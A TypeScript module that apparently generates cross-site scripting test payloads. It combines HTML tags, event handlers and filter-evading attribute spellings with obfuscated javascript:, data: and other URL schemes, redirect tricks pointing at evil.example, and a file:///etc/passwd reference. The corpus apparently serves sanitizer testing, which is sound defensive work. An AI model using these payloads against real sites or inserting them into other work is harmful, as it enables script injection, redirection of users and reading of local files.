/** What the payloads are made of. Each would run `alert(1)`, load from evil.example, or leave the page for it. */
export const RUN = 'alert(1)';
export const EVIL = 'https://evil.example';

/** Elements that take a handler, as they start; the handler and the end come after. */
export const TAGS = [
  '<a href=#',
  '<b',
  '<p',
  '<span',
  '<li',
  '<img src=x',
  '<svg',
  '<body',
  '<input autofocus',
  '<details open',
  '<video src=x',
  '<audio src=x',
  '<marquee',
  '<button autofocus',
  '<iframe',
  '<object data=x',
  '<x-own tabindex=1',
  '<math href=#',
] as const;

export const HANDLERS = [
  'onclick',
  'onload',
  'onerror',
  'onfocus',
  'onblur',
  'onmouseover',
  'onmouseenter',
  'onpointerdown',
  'onpointerrawupdate',
  'onwheel',
  'onscroll',
  'onscrollend',
  'ontoggle',
  'onbeforetoggle',
  'onanimationstart',
  'ontransitionend',
  'onkeydown',
  'oninput',
  'onbeforeinput',
  'oncopy',
  'onpaste',
  'ondrag',
  'onauxclick',
  'oncontextmenu',
  'onhashchange',
  'onmessage',
  'onpageshow',
  'onstart',
  'onfinish',
  'oncontentvisibilityautostatechange',
] as const;

/** Ways to write one attribute that a naive filter does not see as one. */
export const WRITINGS: readonly ((name: string, code: string) => string)[] = [
  (name, code) => ` ${name}=${code}>`,
  (name, code) => ` ${name}="${code}">`,
  (name, code) => ` ${name}='${code}'>`,
  (name, code) => `/${name}=${code}//>`,
  (name, code) => `\n${name.toUpperCase()}\t=\n${code}\n>`,
  (name, code) => ` title="a>b" ${name}="${code}"`,
  (name, code) => `\u000c${name}=${code} x=>`,
  (name, code) => ` ${name}=${entities(code)}>`,
];

export const SCHEMES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `java\rscript:${RUN}`,
  `java\u0000script:${RUN}`,
  `javascript\n:${RUN}`,
  `javascript:%61lert(1)`,
  `javascript://evil.example/%0a${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript&#58;${RUN}`,
  `javascript&#x3A;${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A&#x61&#x76&#x61script:${RUN}`,
  `java&Tab;script:${RUN}`,
  `java&NewLine;script:${RUN}`,
  `feed:javascript:${RUN}`,
  `view-source:javascript:${RUN}`,
  `jar:javascript:${RUN}!/x`,
  `vbscript:msgbox(1)`,
  `livescript:${RUN}`,
  `mocha:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  `data:,${RUN}`,
  `blob:${EVIL}/1`,
  `filesystem:${EVIL}/temporary/x.html`,
  `file:///etc/passwd`,
  `intent://evil.example#Intent;scheme=https;end`,
  `//evil.example`,
  `/\\evil.example`,
  `\\\\evil.example`,
  `/\t/evil.example`,
  `https:evil.example`,
  `${EVIL}@www.meridian.example`,
] as const;

/** Every character as a decimal reference. */
export function entities(text: string): string {
  return Array.from(text)
    .map((char) => `&#${char.codePointAt(0)};`)
    .join('');
}

/** Every character as a hexadecimal reference, padded and unclosed. */
export function looseEntities(text: string): string {
  return Array.from(text)
    .map((char) => `&#x${(char.codePointAt(0) ?? 0).toString(16).padStart(6, '0')}`)
    .join('');
}

/** Every n-th item, beginning with the `from`-th: a thinned product that still meets every item. */
export function every<T>(items: readonly T[], step: number, from = 0): readonly T[] {
  return items.filter((_, index) => index % step === from % step);
}
